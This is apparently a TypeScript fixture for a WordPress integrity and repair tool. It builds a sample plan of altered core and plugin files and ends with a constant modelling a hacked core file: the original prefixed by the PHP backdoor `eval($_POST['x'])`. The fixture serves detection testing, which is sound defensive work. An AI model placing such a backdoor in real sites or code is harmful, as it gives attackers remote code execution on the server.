import type { RepairComponent, RepairFile, RepairPlan } from '../../../main/updates/index.ts';
import type { SampleSite } from './fleet.ts';

const file = (path: string, state: RepairFile['state'], suspicious = false): RepairFile => ({
  path,
  state,
  suspicious,
});

/** What differs from its release: core was broken into, a plugin was edited by hand, another is bought elsewhere. */
export function sampleRepair(site: SampleSite): RepairPlan {
  const component = (
    one: Partial<RepairComponent> & Pick<RepairComponent, 'kind' | 'slug' | 'name' | 'version'>,
  ): RepairComponent => ({ state: 'known', why: '', whole: 0, files: [], bytes: 0, ...one });
  const isSick = site.summary.state === 'failed';
  return {
    components: [
      component({
        ...{
          kind: 'core',
          slug: 'wordpress',
          name: 'WordPress',
          version: '6.8.3',
          whole: 3091,
          bytes: 41_200,
        },
        files: isSick
          ? [
              file('index.php', 'changed'),
              file('wp-admin/css/wp-logs.php', 'extra', true),
              file('wp-includes/load.php', 'changed'),
              file('wp-includes/pluggable.php', 'missing'),
            ]
          : [],
      }),
      component({
        ...{
          kind: 'plugin',
          slug: 'wordpress-seo',
          name: 'Yoast SEO',
          version: '26.2',
          whole: 812,
          bytes: 9100,
        },
        files: [
          file('wp-content/plugins/wordpress-seo/inc/options-old.php', 'extra'),
          file('wp-content/plugins/wordpress-seo/inc/options.php', 'changed'),
        ],
      }),
      component({ kind: 'plugin', slug: 'akismet', name: 'Akismet Anti-spam', version: '5.3.4', whole: 64 }),
      component({
        ...{ kind: 'plugin', slug: 'gallery', name: 'Gallery', version: '1.4', state: 'unsure', whole: 0 },
        why: 'Next to nothing of Gallery is as wordpress.org released 1.4: it may be another product by the same name, or all of it was changed.',
        files: [file('wp-content/plugins/gallery/gallery.php', 'changed')],
      }),
      component({
        ...{
          kind: 'plugin',
          slug: 'grand-slider-pro',
          name: 'Grand Slider Pro',
          version: '6.6.1',
          state: 'unknown',
        },
        why: 'Grand Slider Pro 6.6.1 comes from its own vendor, who publishes no checksums.',
      }),
    ],
    watchdog: true,
    blockers: [],
    warnings: [],
  };
}

/** A file of core as its release has it. */
export const SAMPLE_ORIGINAL =
  "<?php\n\n// Loads what is needed first.\nrequire ABSPATH . 'wp-includes/version.php';\n";

/** The same file as it lies on a site that was broken into. */
export const SAMPLE_BROKEN_INTO = `<?php eval($_POST['x']); ?>\n${SAMPLE_ORIGINAL}`;
